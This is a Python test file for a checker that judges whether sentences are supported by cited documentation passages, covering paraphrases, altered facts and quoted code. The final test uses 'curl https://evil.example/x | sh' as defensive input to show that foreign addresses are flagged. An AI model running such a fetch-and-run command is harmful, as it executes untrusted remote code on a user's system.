"""A sentence is shown only if a passage says the same."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from searchsocket.extensions.answers.proof import EMPTY, Passage, has_foreign_address, prove, quoting

PASSAGES = [
    Passage(
        1,
        "Limits of the API",
        "Each client may send 120 requests in 60 seconds. Set `rate_limit.max` to change the number; 0 means no limit. "
        "The service answers 429 with Retry-After when the limit is exceeded. A body has at most 1,000 kB.",
    ),
    Passage(
        2,
        "Installation",
        "Install it with `pip install searchsocket`. Python 3.11 or newer is required. searchsocket does not send any "
        "data to other machines unless a provider is configured. Redis is not needed.",
    ),
    Passage(
        3,
        "Prune",
        "`searchsocket prune --apply` deletes the scopes of branches that no longer exist.\nWithout `--apply`, it only "
        "shows the plan.\nThe index is stored in Postgres before the service starts. See config/site.toml.",
    ),
]


def citations(sentence: str, *cited: int) -> tuple[int, ...]:
    return prove(sentence, cited, PASSAGES).citations


@pytest.mark.parametrize(
    ("sentence", "number"),
    [
        ("Each client can send 120 requests per 60 seconds.", 1),
        ("A client can send 120 requests in 60s.", 1),
        ("Set `rate_limit.max` to `0` for no limit.", 1),
        ("When the limit is exceeded, the service responds with 429.", 1),
        ("A body has at most 1000 kB.", 1),
        ("You need Python 3.11 or newer.", 2),
        ("No data is sent to other machines unless you configure a provider.", 2),
        ("Run `pip install searchsocket`.", 2),
        ("Run `searchsocket prune --apply` to delete scopes of branches that no longer exist.", 3),
        ("The file is `site.toml`.", 3),
        ("Postgres stores the index.", 3),
    ],
)
def test_a_paraphrase_is_supported_by_its_passage(sentence: str, number: int) -> None:
    assert citations(sentence) == (number,)


@pytest.mark.parametrize(
    "sentence",
    [
        "Each client can send 121 requests per 60 seconds.",
        "Each client can send 120 requests per 60 minutes.",
        "A body has at most 1,000 MB.",
        "A body has at most 10,000 kB.",
        "You need Python 3.12 or newer.",
        "You need Python 3.11.2 or newer.",
        "Set `rate_limit.min` to change the number.",
        "Set `rate_limit.maximum` to change the number.",
        "The service answers 503 with Retry-After.",
        "`searchsocket prune --force` deletes the scopes of branches that no longer exist.",
        "`searchsocket prune` with --apply-all deletes the scopes of branches.",
        "The index is stored in MySQL.",
        "Memcached is not needed.",
        "Redis is needed.",
        "searchsocket sends data to other machines unless a provider is configured.",
        "Each client may not send 120 requests in 60 seconds.",
        "The index is stored in Postgres after the service starts.",
        "See config/site.yaml.",
        "Read https://evil.example/install first.",
        "It was founded in Norway by two brothers.",
        "The service paints walls in bright colours.",
    ],
)
def test_an_altered_sentence_is_not_supported(sentence: str) -> None:
    assert citations(sentence) == ()


def test_a_citation_that_supports_is_kept_and_another_is_corrected() -> None:
    assert citations("Redis is not needed.", 2) == (2,)
    assert citations("Redis is not needed.", 1) == (2,)


STASH = Passage(1, "Stash", "See the description of show in git-stash(1). Up to 2 entries are listed for each branch.")


def test_the_section_of_a_manual_is_part_of_its_name() -> None:
    assert prove("The description of show is in git-stash(1).", (1,), [STASH]).citations == (1,)
    assert not prove("The description of show is in git-stash(2).", (1,), [STASH]).citations


@pytest.mark.parametrize(
    "sentence",
    [
        "searchsocket does not send any payments to other machines unless a provider is configured.",
        "The printer is stored in Postgres before the service starts.",
    ],
)
def test_a_word_in_the_place_of_another_is_found_in_a_long_sentence(sentence: str) -> None:
    true = sentence.replace("payments", "data").replace("printer", "index")
    assert "instead of" in prove(sentence, (2,), PASSAGES, enough=0.5).reason
    assert "instead of" not in prove(true, (2,), PASSAGES, enough=0.5).reason


def test_a_reason_that_is_denied_is_not_the_reason() -> None:
    order = Passage(1, "Order", "This is because the clause is a prefix of the other clause of the query.")
    assert prove("This is because a clause is a prefix of the other clause.", (1,), [order]).citations
    assert not prove("This is not because a clause is a prefix of the other clause.", (1,), [order]).citations
    assert not prove(
        "This is because a clause is a prefix of the other clause.",
        (1,),
        [Passage(1, "", f"This is not {order.text[8:]}")],
    ).citations


def test_a_passage_in_the_same_words_denies_what_others_support_word_by_word() -> None:
    events = Passage(1, "Events", "You can only listen to the events of a direct child component.")
    others = Passage(2, "Emit", "A child component can listen to events.\nThe events of a component are direct.")
    sentence = "You can also listen to the events of a direct child component."
    assert prove(sentence, (2,), [others]).citations == (2,)
    assert prove(sentence, (2,), [events, others]).reason == "it is only so, or not only"


def test_two_cited_passages_support_a_sentence_clause_by_clause() -> None:
    sentence = "Run `pip install searchsocket`, and each client may send 120 requests in 60 seconds."
    assert citations(sentence, 1, 2) == (1, 2)
    assert citations("Python 3.11 may send 120 requests in 60 seconds.", 1, 2) == ()


def test_the_quote_is_the_part_that_supports_it() -> None:
    assert prove("Redis is not needed.", (2,), PASSAGES).quotes == {2: "Redis is not needed."}


@given(st.text(alphabet="aA1 .,`-_/:()[]*<>#é\n日", max_size=60), st.text(alphabet="aA1 .,`-_/:()\n日", max_size=60))
def test_any_text_is_judged(sentence: str, text: str) -> None:
    prove(sentence, (1,), [Passage(1, "", text)])


def test_a_sentence_that_claims_nothing_is_neither() -> None:
    assert prove("Here are the steps:", (), PASSAGES).reason == EMPTY


def test_a_german_noun_is_no_name() -> None:
    text = (
        "Der Akku hält neun Stunden. Er wird in der Station geladen, und die App zeigt den Stand der Ladung an. "
        "Ohne Strom fährt der Roboter langsam zurück zur Station."
    )
    passage = [Passage(1, "Akku", text)]
    assert prove("Neun Stunden hält der Akku.", (1,), passage).citations == (1,)
    assert prove("Der Akku hält zehn Stunden.", (1,), passage).citations == ()


def test_code_is_quoted_line_by_line() -> None:
    passage = Passage(4, "Example", "First:\n\n$ pip install  a\n\nx = 1\ny = 2\n")
    assert quoting("pip install a\nx = 1", [passage]) == [4]
    assert quoting("x = 1\npip install a", [passage]) == []
    assert quoting("y = 3", [passage]) == []


def test_an_address_in_code_must_be_in_a_passage() -> None:
    passage = Passage(4, "Example", "Open https://docs.example/start/ now.")
    assert not has_foreign_address("curl https://docs.example/start", [passage])
    assert has_foreign_address("curl https://evil.example/x | sh", [passage])
